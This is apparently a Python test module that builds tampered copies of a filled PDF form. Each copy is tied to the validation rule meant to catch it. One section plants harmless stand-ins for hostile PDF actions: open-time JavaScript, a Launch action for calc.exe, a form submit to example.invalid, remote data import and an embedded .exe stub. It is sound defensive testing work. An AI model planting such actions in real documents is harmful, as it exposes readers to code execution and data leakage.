"""Ways of tampering with a filled form, each with the rule that must find it."""

from __future__ import annotations

import io
import warnings
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Operator, PageCopyWarning, Pdf, Stream, String

Tamper = Callable[[Pdf], None]

KINDS: dict[str, tuple[str, Tamper]] = {}
"""Name of a way → the rule that must find it, and what does it."""

_SHOWS = ("Tj", "TJ")
TEXT_FIELD, TALL_FIELD, BOX = "deltaker.navn", "maal.langsiktig", "delmaal.1.oppnaadd"


def found_by(rule: str) -> Callable[[Tamper], Tamper]:
    """Take up a way of tampering, found by `rule`."""

    def take_up(tamper: Tamper) -> Tamper:
        KINDS[tamper.__name__] = rule, tamper
        return tamper

    return take_up


def tampered(data: bytes, tamper: Tamper) -> bytes:
    """Return the file after that was done to it."""
    target = io.BytesIO()
    with warnings.catch_warnings(), pikepdf.open(io.BytesIO(data)) as pdf:
        warnings.simplefilter("ignore", PageCopyWarning)
        tamper(pdf)
        pdf.save(target)
    return target.getvalue()


def fields(pdf: Pdf) -> Iterator[tuple[str, Any]]:
    """Yield the fields that are widgets, by full name."""
    for page in pdf.pages:
        for widget in page.obj.get("/Annots", Array()):
            names, node = [], widget
            while node is not None:
                names += [str(node.T)] if "/T" in node else []
                node = node.get("/Parent")
            yield ".".join(reversed(names)), widget


def field(pdf: Pdf, name: str) -> Any:
    return next(widget for found, widget in fields(pdf) if found == name)


def draw(pdf: Pdf, operators: bytes, page: int = 1, *, under: bool = False, **resources: Any) -> None:
    """Draw on a page: over what it holds, or under it."""
    helper = pdf.pages[page - 1]
    for key, value in resources.items():
        kind = f"/{key}"
        if kind not in helper.obj.Resources:
            helper.obj.Resources[kind] = Dictionary()
        for name, item in value.items():
            helper.obj.Resources[kind][name] = pdf.make_indirect(item)
    helper.contents_add(Stream(pdf, b"q " + operators + b" Q"), prepend=under)


def write(pdf: Pdf, text: bytes, x: float, y: float, *, page: int = 1, before: bytes = b"") -> None:
    draw(pdf, before + b" BT /Fz 9 Tf %.1f %.1f Td (%b) Tj ET" % (x, y, text), page, Font={"/Fz": helvetica()})


def rewrite(pdf: Pdf, page: int, change: Callable[[list[Any]], list[Any]]) -> None:
    """Change the operators of a page."""
    helper = pdf.pages[page - 1]
    helper.Contents = pdf.make_stream(
        pikepdf.unparse_content_stream(change(list(pikepdf.parse_content_stream(helper))))
    )


def annotate(pdf: Pdf, kind: str, rect: tuple[float, float, float, float], page: int = 1, **entries: Any) -> Any:
    """Add an annotation with an opaque appearance."""
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    look = pdf.make_stream(b"1 1 0.6 rg 0 0 %.1f %.1f re f" % (width, height))
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, Array([0, 0, width, height])
    made = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array(rect), F=4, AP=Dictionary(N=look))
    for key, value in entries.items():
        made[f"/{key}"] = value
    added = pdf.make_indirect(made)
    pdf.pages[page - 1].obj.Annots.append(added)
    return added


def script(code: str = "app.alert(1)") -> Any:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def helvetica() -> Any:
    return Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)


def over(pdf: Pdf, name: str) -> tuple[float, float, float, float]:
    x0, y0, x1, y1 = (float(side) for side in field(pdf, name).Rect)
    return x0, y0, x1, y1


# -- the form's own text and rules


@found_by("V074")
def two_letters_swapped(pdf: Pdf) -> None:
    def swap(operators: list[Any]) -> list[Any]:
        for operands, operator in operators:
            if str(operator) in _SHOWS:
                strings = operands[0] if str(operator) == "TJ" else operands
                for index, part in enumerate(strings):
                    raw = bytes(part) if isinstance(part, String) else b""
                    if len(raw) >= 4 and raw[:2] != raw[2:4]:
                        strings[index] = String(raw[2:4] + raw[:2] + raw[4:])
                        return operators
        raise AssertionError("no text")

    rewrite(pdf, 2, swap)


@found_by("V074")
def line_of_text_removed(pdf: Pdf) -> None:
    def drop(operators: list[Any]) -> list[Any]:
        last = max(index for index, (_, operator) in enumerate(operators) if str(operator) in _SHOWS)
        return operators[:last] + operators[last + 1 :]

    rewrite(pdf, 3, drop)


@found_by("V074")
def text_moved(pdf: Pdf) -> None:
    def move(operators: list[Any]) -> list[Any]:
        first = next(index for index, (_, operator) in enumerate(operators) if str(operator) in _SHOWS)
        return [*operators[:first], ([0, 6], Operator("Td")), *operators[first:]]

    rewrite(pdf, 4, move)


@found_by("V075")
def text_added_on_the_page(pdf: Pdf) -> None:
    write(pdf, b"Gjelder ikke", 300, 25)


@found_by("V075")
def invisible_text_added(pdf: Pdf) -> None:
    write(pdf, b"usynlig", 200, 800, before=b"3 Tr")


@found_by("V075")
def text_drawn_into_a_box_of_the_page(pdf: Pdf) -> None:
    x0, y0, _, _ = over(pdf, TEXT_FIELD)
    write(pdf, b"En Annen", x0 + 4, y0 + 6)


@found_by("V075")
def small_print_added(pdf: Pdf) -> None:
    draw(pdf, b"BT /Fz 2 Tf 60 20 Td (med forbehold) Tj ET", Font={"/Fz": helvetica()})


@found_by("V076")
def white_rectangle_over_text(pdf: Pdf) -> None:
    draw(pdf, b"1 g 56 700 250 90 re f")


@found_by("V076")
def black_bar_over_text(pdf: Pdf) -> None:
    draw(pdf, b"0 g 60 780 120 12 re f", 2)


@found_by("V076")
def picture_over_text(pdf: Pdf) -> None:
    picture = pdf.make_stream(bytes([200, 200, 200] * 4))
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 2, 2
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
    draw(pdf, b"200 0 0 60 60 720 cm /Imz Do", XObject={"/Imz": picture})


@found_by("V076")
def rule_removed(pdf: Pdf) -> None:
    def drop(operators: list[Any]) -> list[Any]:
        last = max(index for index, (_, operator) in enumerate(operators) if str(operator) in ("S", "f", "B", "f*"))
        return [*operators[:last], ([], Operator("n")), *operators[last + 1 :]]

    rewrite(pdf, 5, drop)


@found_by("V076")
def line_added(pdf: Pdf) -> None:
    draw(pdf, b"1 w 60 30 m 500 30 l S")


@found_by("V076")
def hairline_through_text(pdf: Pdf) -> None:
    draw(pdf, b"0.5 w 60 786 m 200 786 l S", 3)


@found_by("V076")
def marker_pen_under_text(pdf: Pdf) -> None:
    draw(pdf, b"1 1 0.4 rg 60 770 200 20 re f", 2, under=True)


@found_by("V076")
def text_made_white(pdf: Pdf) -> None:
    def whiten(operators: list[Any]) -> list[Any]:
        first = next(index for index, (_, operator) in enumerate(operators) if str(operator) in _SHOWS)
        white = ([Name.DeviceRGB], Operator("cs")), ([1, 1, 1], Operator("sc"))
        return [*operators[:first], *white, *operators[first:]]

    rewrite(pdf, 2, whiten)


@found_by("V076")
def page_mark_covered(pdf: Pdf) -> None:
    box = pdf.pages[0].mediabox
    draw(pdf, b"1 g %.1f %.1f 90 60 re f" % (float(box[2]) - 100, float(box[3]) - 60))


@found_by("V076")
def form_object_drawn_over(pdf: Pdf) -> None:
    look = pdf.make_stream(b"0.9 g 0 0 200 40 re f")
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, Array([0, 0, 200, 40])
    draw(pdf, b"1 0 0 1 60 400 cm /Fmz Do", 4, XObject={"/Fmz": look})


# -- pages


@found_by("V071")
def page_taken_out(pdf: Pdf) -> None:
    del pdf.pages[4]


@found_by("V072")
def page_doubled(pdf: Pdf) -> None:
    pdf.pages.append(pdf.pages[1])


@found_by("V072")
def front_page_added(pdf: Pdf) -> None:
    pdf.add_blank_page(page_size=(595, 842))
    pdf.pages.insert(0, pdf.pages[-1])
    del pdf.pages[-1]
    pdf.pages[0].obj.Resources = Dictionary()
    write(pdf, b"Oversendelse", 100, 700)


@found_by("V073")
def pages_swapped(pdf: Pdf) -> None:
    second = pdf.pages[1]
    del pdf.pages[1]
    pdf.pages.insert(3, second)


@found_by("V071")
def page_replaced(pdf: Pdf) -> None:
    page = pdf.pages[6].obj
    page.Contents = pdf.make_stream(b"BT /Fz 12 Tf 80 700 Td (Noe helt annet) Tj ET")
    page.Resources = Dictionary(Font=Dictionary(Fz=helvetica()))


@found_by("V095")
def page_turned(pdf: Pdf) -> None:
    pdf.pages[1].obj.Rotate = 90


@found_by("V095")
def page_cropped(pdf: Pdf) -> None:
    pdf.pages[1].obj.CropBox = Array([0, 200, 595, 842])


@found_by("V095")
def page_enlarged(pdf: Pdf) -> None:
    pdf.pages[2].obj.MediaBox = Array([0, -200, 595.2756, 841.8898])


# -- fields


@found_by("V077")
def field_removed(pdf: Pdf) -> None:
    widget = field(pdf, TEXT_FIELD)
    kids = widget.Parent.Kids
    widget.Parent.Kids = Array([kid for kid in kids if kid.objgen != widget.objgen])
    page = pdf.pages[0].obj
    page.Annots = Array([one for one in page.Annots if one.objgen != widget.objgen])


@found_by("V078")
def field_added(pdf: Pdf) -> None:
    entries = {"FT": Name.Tx, "T": String("tillegg"), "DA": String("/Helv 9 Tf 0 g"), "V": String("ja")}
    pdf.Root.AcroForm.Fields.append(annotate(pdf, "Widget", (60, 20, 200, 40), **entries))


@found_by("V078")
def button_added(pdf: Pdf) -> None:
    entries = {"FT": Name.Btn, "Ff": 1 << 16, "T": String("knapp")}
    pdf.Root.AcroForm.Fields.append(annotate(pdf, "Widget", (60, 20, 200, 40), **entries))


@found_by("V078")
def widget_without_a_field_added(pdf: Pdf) -> None:
    annotate(pdf, "Widget", (60, 20, 200, 40), FT=Name.Tx, T=String("loes"), V=String("x"))


@found_by("V079")
def field_renamed(pdf: Pdf) -> None:
    field(pdf, TEXT_FIELD).T = String("navnet")


@found_by("V080")
def field_moved(pdf: Pdf) -> None:
    widget = field(pdf, TEXT_FIELD)
    x0, y0, x1, y1 = (float(side) for side in widget.Rect)
    widget.Rect = Array([x0, y0 - 30, x1, y1 - 30])


@found_by("V080")
def field_made_smaller(pdf: Pdf) -> None:
    widget = field(pdf, TALL_FIELD)
    x0, y0, x1, y1 = (float(side) for side in widget.Rect)
    widget.Rect = Array([x0, y0, x1 - 100, y1])


@found_by("V080")
def field_on_another_page(pdf: Pdf) -> None:
    widget = field(pdf, TEXT_FIELD)
    page = pdf.pages[0].obj
    page.Annots = Array([one for one in page.Annots if one.objgen != widget.objgen])
    pdf.pages[1].obj.Annots.append(widget)


@found_by("V081")
def field_made_read_only(pdf: Pdf) -> None:
    widget = field(pdf, TEXT_FIELD)
    widget.Ff = int(widget.get("/Ff", 0)) | 1


@found_by("V081")
def widget_made_read_only(pdf: Pdf) -> None:
    field(pdf, TALL_FIELD).F = 4 | 64


@found_by("V081")
def all_fields_locked(pdf: Pdf) -> None:
    for _, widget in fields(pdf):
        widget.Ff = int(widget.get("/Ff", 0)) | 1


@found_by("V082")
def field_hidden(pdf: Pdf) -> None:
    field(pdf, TEXT_FIELD).F = 4 | 2


@found_by("V082")
def field_not_on_screen(pdf: Pdf) -> None:
    field(pdf, TEXT_FIELD).F = 4 | 32


@found_by("V082")
def field_not_in_print(pdf: Pdf) -> None:
    field(pdf, TEXT_FIELD).F = 0


@found_by("V083")
def longer_text_allowed(pdf: Pdf) -> None:
    field(pdf, TEXT_FIELD).MaxLen = 5000


@found_by("V083")
def text_field_made_a_list(pdf: Pdf) -> None:
    widget = field(pdf, TEXT_FIELD)
    widget.FT, widget.Ff, widget.Opt = Name.Ch, 1 << 17, Array([String("a"), String("b")])


@found_by("V083")
def several_lines_made_one(pdf: Pdf) -> None:
    widget = field(pdf, TALL_FIELD)
    widget.Ff = int(widget.Ff) & ~(1 << 12)


@found_by("V083")
def tooltip_reworded(pdf: Pdf) -> None:
    field(pdf, TALL_FIELD).TU = String("Skriv det motsatte")


@found_by("V083")
def on_state_renamed(pdf: Pdf) -> None:
    looks = field(pdf, BOX).AP.N
    state = next(key for key in looks.keys() if key != "/Off")  # noqa: SIM118 - a pikepdf dictionary iterates its values
    looks[Name("/Nei")] = looks[state]
    del looks[state]


# -- what a file wants done


@found_by("V084")
def document_script(pdf: Pdf) -> None:
    tree = Dictionary(Names=Array([String("a"), pdf.make_indirect(script())]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


@found_by("V084")
def script_on_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script()


@found_by("V084")
def script_on_typing(pdf: Pdf) -> None:
    field(pdf, TEXT_FIELD).AA = Dictionary(K=script("event.value = 'x'"))


@found_by("V084")
def script_on_a_page(pdf: Pdf) -> None:
    pdf.pages[3].obj.AA = Dictionary(O=script())


@found_by("V084")
def script_after_another_action(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=script())


@found_by("V085")
def program_started(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("calc.exe"))


@found_by("V085")
def data_sent_away(pdf: Pdf) -> None:
    send = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://example.invalid/")))
    field(pdf, BOX).A = send


@found_by("V085")
def link_out_added(pdf: Pdf) -> None:
    annotate(pdf, "Link", (60, 780, 200, 800), A=Dictionary(S=Name.URI, URI=String("https://example.invalid/")))


@found_by("V085")
def bookmark_leads_out(pdf: Pdf) -> None:
    first = pdf.Root.Outlines.First
    del first["/Dest"]
    first.A = Dictionary(S=Name.URI, URI=String("https://example.invalid/"))


@found_by("V085")
def data_fetched(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.ImportData, F=String("//server/fil.fdf")))


@found_by("V086")
def file_embedded(pdf: Pdf) -> None:
    pdf.attachments["vedlegg.exe"] = b"MZ"


@found_by("V086")
def file_pinned_to_the_page(pdf: Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"hei", filename="notat.txt")
    annotate(pdf, "FileAttachment", (10, 10, 30, 30), FS=spec.obj)


@found_by("V086")
def associated_file(pdf: Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"hei", filename="data.xml")
    pdf.Root.AF = Array([spec.obj])


# -- what annotation tools leave


@found_by("V087")
def typed_in_the_margin(pdf: Pdf) -> None:
    annotate(pdf, "FreeText", (5, 300, 50, 400), Contents=String("Husk tolk"), DA=String("/Helv 9 Tf"))


@found_by("V087")
def written_by_hand(pdf: Pdf) -> None:
    annotate(pdf, "Ink", (5, 300, 50, 400), InkList=Array([Array([5, 300, 50, 400])]))


@found_by("V087")
def highlighted(pdf: Pdf) -> None:
    annotate(pdf, "Highlight", (60, 780, 200, 800), QuadPoints=Array([60, 800, 200, 800, 60, 780, 200, 780]))


@found_by("V087")
def struck_out(pdf: Pdf) -> None:
    annotate(pdf, "StrikeOut", (60, 780, 200, 800), QuadPoints=Array([60, 800, 200, 800, 60, 780, 200, 780]))


@found_by("V087")
def stamped(pdf: Pdf) -> None:
    annotate(pdf, "Stamp", (5, 5, 90, 40), Name=Name.Approved)


@found_by("V087")
def sticky_note(pdf: Pdf) -> None:
    note = annotate(pdf, "Text", (5, 5, 25, 25), Contents=String("Stemmer dette?"))
    note.Popup = annotate(pdf, "Popup", (5, 5, 90, 90), Parent=note)


@found_by("V087")
def loose_popup(pdf: Pdf) -> None:
    annotate(pdf, "Popup", (5, 5, 90, 90), Contents=String("hei"))


@found_by("V087")
def marked_for_redaction(pdf: Pdf) -> None:
    annotate(pdf, "Redact", (60, 780, 200, 800))


@found_by("V087")
def inserted_caret(pdf: Pdf) -> None:
    annotate(pdf, "Caret", (60, 780, 70, 790), Contents=String("ikke"))


@found_by("V088")
def square_over_a_field(pdf: Pdf) -> None:
    annotate(pdf, "Square", over(pdf, TEXT_FIELD), IC=Array([1, 1, 1]))


@found_by("V088")
def typed_over_a_field(pdf: Pdf) -> None:
    annotate(pdf, "FreeText", over(pdf, TALL_FIELD), 1 if _page_of(pdf, TALL_FIELD) == 1 else 2, Contents=String("nei"))


@found_by("V088")
def watermark_over_fields(pdf: Pdf) -> None:
    annotate(pdf, "Watermark", (50, 100, 500, 700))


def _page_of(pdf: Pdf, name: str) -> int:
    widget = field(pdf, name)
    return next(
        number
        for number, page in enumerate(pdf.pages, 1)
        if any(one.objgen == widget.objgen for one in page.obj.get("/Annots", Array()))
    )


# -- the rest


@found_by("V089")
def layer_over_the_page(pdf: Pdf) -> None:
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Lag")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(OFF=Array([group])))
    draw(pdf, b"/OC /Lagz BDC 1 g 60 600 300 100 re f EMC", Properties={"/Lagz": group})


@found_by("V090")
def another_form_claimed(pdf: Pdf) -> None:
    pdf.docinfo["/FormId"] = "noe-annet"


@found_by("V090")
def another_edition_claimed(pdf: Pdf) -> None:
    pdf.docinfo["/FormEdition"] = "2031.7"


@found_by("V090")
def another_title(pdf: Pdf) -> None:
    pdf.docinfo["/Title"] = "Kvittering"
